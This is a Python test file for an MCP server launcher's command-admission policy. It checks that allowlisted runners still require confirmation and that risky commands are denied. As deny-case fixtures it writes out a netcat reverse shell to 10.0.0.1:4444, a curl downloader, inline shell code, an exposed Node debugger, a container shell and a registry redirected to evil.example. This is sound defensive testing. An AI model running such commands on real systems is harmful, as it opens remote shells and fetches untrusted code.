"""Runtime admission, pure: the command list gates, then the classifier judges what the command runs."""

from __future__ import annotations

import sys
import uuid

import pytest
from pydantic import ValidationError

from mcpstation.config.models import PolicySettings, StdioServerSpec
from mcpstation.policy import Gate, Rule, Verdict, admit_command

ABSENT_UNDER_TMP = f"/tmp/mcpstation-absent-{uuid.uuid4().hex}/server"  # anyone could create it first
SEEDS_POLICY = PolicySettings(allowed_dynamic_stdio_commands=("npx", "uvx", "python"))


def stdio(command: str, *args: str, **fields: object) -> StdioServerSpec:
    return StdioServerSpec.model_validate({"name": "s", "command": command, "args": args, **fields})


@pytest.mark.parametrize(
    ("spec", "rule"),
    [
        (stdio("npx", "-y", "totally-unknown-mcp@latest"), Rule.PACKAGE_NOT_ALLOWED),
        (stdio("uvx", "--from", "git+https://example.invalid/x", "x"), Rule.PACKAGE_SOURCE),
        (stdio("python", "/opt/servers/some_script.py"), Rule.SCRIPT),
    ],
)
def test_the_seeds_allowlist_no_longer_vouches_for_what_runners_run(spec: StdioServerSpec, rule: Rule) -> None:
    admission = admit_command(spec, SEEDS_POLICY)
    assert (admission.decision, admission.rule) == (Verdict.CONFIRM, rule), admission.reason
    assert not admission.allowed


def test_a_script_in_tmp_is_refused_even_with_python_listed() -> None:
    admission = admit_command(stdio("python", "/tmp/some_script.py"), SEEDS_POLICY)
    assert (admission.decision, admission.rule) == (Verdict.DENY, Rule.WORLD_WRITABLE)


def test_allowed_packages_from_the_config_let_runners_start_at_once() -> None:
    policy = SEEDS_POLICY.model_copy(update={"allowed_packages": ("mcp-server-time", "@scope/server@1.2.3")})
    for spec in (stdio("uvx", "mcp-server-time"), stdio("npx", "-y", "@scope/server@1.2.3"),
                 stdio("python", "-m", "mcp_server_time")):  # fmt: skip
        admission = admit_command(spec, policy)
        assert admission.decision is Verdict.ALLOW, admission.reason
    assert admit_command(stdio("npx", "-y", "@scope/server@2.0.0"), policy).decision is Verdict.CONFIRM


def test_the_command_list_matches_exact_names_and_paths_only() -> None:
    policy = PolicySettings(allowed_dynamic_stdio_commands=("python", sys.executable, "/usr/local/bin/server"))
    assert admit_command(stdio("/home/someone/bin/python", "-m", "x"), policy).rule is Gate.COMMAND_NOT_LISTED
    assert admit_command(stdio("python3", "-m", "x"), policy).rule is Gate.COMMAND_NOT_LISTED
    assert admit_command(stdio("/usr/local/bin/../bin/server"), policy).rule is Rule.ALLOWED_COMMAND
    assert admit_command(stdio("server"), policy).rule is Gate.COMMAND_NOT_LISTED
    own = admit_command(stdio(sys.executable, "-m", "mcpstation.testing.demo_server"), policy)
    assert (own.decision, own.rule) == (Verdict.ALLOW, Rule.OWN_SERVER)
    off = admit_command(stdio("python", "-m", "x"), PolicySettings())
    assert (off.decision, off.rule) == (Verdict.DENY, Gate.STDIO_OFF)


def test_no_allowlist_overrides_a_deny_at_admission() -> None:
    policy = PolicySettings(
        allowed_dynamic_stdio_commands=("nc", "curl", "sh", "node", "docker", ABSENT_UNDER_TMP),
        allowed_packages=("nc", "curl", "sh"),
    )
    cases = {
        ("nc", ("-e", "/bin/sh", "10.0.0.1", "4444")): Rule.REVERSE_SHELL,
        ("curl", ("https://example.invalid",)): Rule.DOWNLOADER,
        ("sh", ("-c", "id")): Rule.INLINE_CODE,
        ("node", ("--inspect=0.0.0.0", "/opt/x.js")): Rule.REMOTE_DEBUGGER,
        ("docker", ("run", "--entrypoint", "sh", "img")): Rule.CONTAINER_SHELL,
        (ABSENT_UNDER_TMP, ()): Rule.WORLD_WRITABLE,
    }
    for (command, args), rule in cases.items():
        admission = admit_command(stdio(command, *args), policy)
        assert (admission.decision, admission.rule) == (Verdict.DENY, rule), admission.reason


def test_a_working_directory_of_its_own_needs_a_person_or_is_refused() -> None:
    policy = PolicySettings(allowed_dynamic_stdio_commands=(sys.executable,))
    own = admit_command(stdio(sys.executable, "-m", "mcpstation.testing.demo_server", cwd="/opt/x"), policy)
    assert (own.decision, own.rule) == (Verdict.CONFIRM, Rule.WORKING_DIRECTORY)
    shared = admit_command(stdio(sys.executable, "-m", "mcpstation.testing.demo_server", cwd="/tmp"), policy)
    assert (shared.decision, shared.rule) == (Verdict.DENY, Rule.WORLD_WRITABLE)


def test_the_environment_is_judged_at_admission() -> None:
    policy = PolicySettings(allowed_dynamic_stdio_commands=("npx",), allowed_packages=("mcp-server-time",))
    spec = stdio("npx", "-y", "mcp-server-time", env={"NPM_CONFIG_REGISTRY": "https://evil.example"})
    assert admit_command(spec, policy).rule is Rule.ENV_HIJACK


@pytest.mark.parametrize("entry", ["git+https://x/y", "../local", "name @ https://x", "a b", "npm:"])
def test_a_malformed_allowed_packages_entry_is_a_config_error_naming_it(entry: str) -> None:
    with pytest.raises(ValidationError, match="is not a package name"):
        PolicySettings(allowed_packages=(entry,))


def test_a_run_time_server_asking_for_the_stations_variables_needs_a_person() -> None:
    policy = PolicySettings(allowed_dynamic_stdio_commands=("uvx",), allowed_packages=("mcp-server-time",))
    assert admit_command(stdio("uvx", "mcp-server-time"), policy).decision is Verdict.ALLOW
    asking = stdio("uvx", "mcp-server-time", inherit_env=("*",))
    admission = admit_command(asking, policy)
    assert (admission.decision, admission.rule) == (Verdict.CONFIRM, Rule.INHERITED_ENV)
    assert "(*)" in admission.reason
